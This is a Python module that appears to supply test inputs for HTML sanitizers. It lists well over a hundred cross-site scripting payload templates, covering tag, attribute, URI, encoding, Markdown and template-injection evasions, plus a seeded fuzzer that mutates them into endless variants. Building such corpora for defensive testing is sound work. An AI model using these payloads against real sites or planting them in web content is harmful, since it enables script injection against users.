"""Texts that become programs where a page takes them for more than words.

Each calls `alert`, in one of the ways browsers have for it.  `grown` makes more of the same kind.
"""

import random
from collections.abc import Iterator

_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "(alert)(1)")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "<script\t>{}</script\t>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script src=data:,{}></script>",
    "<script src=//127.0.0.1:9/x.js></script>{}",
    "<script type=module>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{}</script></svg>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href=javascript:{}>x</math>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    "<img/src/onerror={}>",
    "<image src=x onerror={}>",
    "<img src=//127.0.0.1:9/x.png alt='{}'>",
    "<img src='x' style='background:url(javascript:{})'>",
    "<body onload={}>",
    "<body background=javascript:{}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<video src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<object data=javascript:{}>",
    "<object data='data:text/html,<script>{}</script>'>",
    "<embed src=javascript:{}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<frameset onload={}>",
    "<base href=javascript:{}//>",
    "<base href=//127.0.0.1:9/>{}",
    "<link rel=stylesheet href=//127.0.0.1:9/x.css>{}",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{}</script>'>",
    "<meta charset=utf-7>+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<form action=javascript:{}><input type=submit>",
    "<form><button formaction=javascript:{}>x",
    "<isindex type=image src=1 onerror={}>",
    "<style>@import '//127.0.0.1:9/{}';</style>",
    "<style>*{{background:url(//127.0.0.1:9/{})}}</style>",
    "<div style='width:expression({})'>",
    "<div style=animation-name:x onanimationstart={}>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<title><p title='</title><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<!--!><svg onload={}>",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<?php echo '<script>{}</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>{}</script>'>]>&x;",
)
_LEAVING = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "</td></tr></table><script>{}</script>",
    "]]><script>{}</script>",
    "--><script>{}</script>",
    "*/</style><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    '" autofocus onfocus="{}" x="',
    "` onmouseover=`{}`",
    '"}};{};//',
    "'-{}-'",
    "\\'-{}//",
    "x\u00a0{}//",
    "${{{}}}",
    "</p><img src=x onerror={}><p>",
    "<!--<script>{}//-->",
    '","x":"</script><svg onload={}>',
)
_SAYING = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\u00adscript:{}",
    "x\u3000javascript:{}",
    "javascript\u003a{}",
    "javascript&colon;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{}",
    "blob:{}",
    "view-source:javascript:{}",
    "[x](javascript:{})",
    "[x](<javascript:{}>)",
    "[x]: javascript:{}",
    "![x](javascript:{})",
    '![x](x"onerror="{})',
    "<javascript:{}>",
    '<https://x/"onmouseover="{}>',
    "[a](https://x 'y\" onmouseover={} \"')",
    "`<img src=x onerror={}>`",
    "```html\u3000<script>{}</script>```",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% print {} %}}",
    "{{{{ cycler.__init__.__globals__ }}}}{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "＜script＞{}＜/script＞",
    "\u202e<script>{}</script>",
    "{{: onclick={} }}",
    "{{#x onclick={}}}",
)

TEMPLATES = (*_TAGS, *_LEAVING, *_SAYING)
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        template.format(call)
        for call in _CALLS
        for template in (TEMPLATES if call == _CALLS[0] else _TAGS[:12] + _LEAVING[:4])
    )
)
"""At least 150; each of one line, as a title is."""

_PIECES = (
    "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", '"', "'", "`", "=", "&", ";", "&#x3c;", "&lt", "&quot;",
    "\\", "\t", "/", "script", "svg", "img", "math", "style", "title", "iframe", "textarea", "table", "template",
    "noscript", "a", "xmp", "details open", "input autofocus", " onload=", " onerror=", " onfocus=", " ontoggle=",
    " src=x", " href=", " srcdoc=", " style=", " id=", "javascript:", "data:text/html,", "alert(1)", "alert`1`",
    "{{", "}}", "{%", "%}", "[x](", ")", "](", "|", "---", "\u2028", "\u200b", "\ufeff", "\u00a0", "\u3000", "《", "第一条",
    "é", "\ufffd", "＜", "＞",
)  # fmt: skip


def grown(seed: int) -> Iterator[str]:
    """Yield texts without end: payloads cut, joined and strewn with pieces of mark-up."""
    chance = random.Random(seed)  # noqa: S311 - to be had again by its seed
    while True:
        words = list(chance.choice(PAYLOADS)) if chance.random() < 0.7 else []
        for _ in range(chance.randint(1, 12)):
            at = chance.randint(0, len(words))
            act = chance.random()
            if act < 0.6:
                words[at:at] = chance.choice(_PIECES)
            elif act < 0.8:
                del words[at : at + chance.randint(1, 4)]
            else:
                words[at:at] = chance.choice(PAYLOADS)
        yield " ".join("".join(words).split())[:600] or "<script>alert(1)</script>"
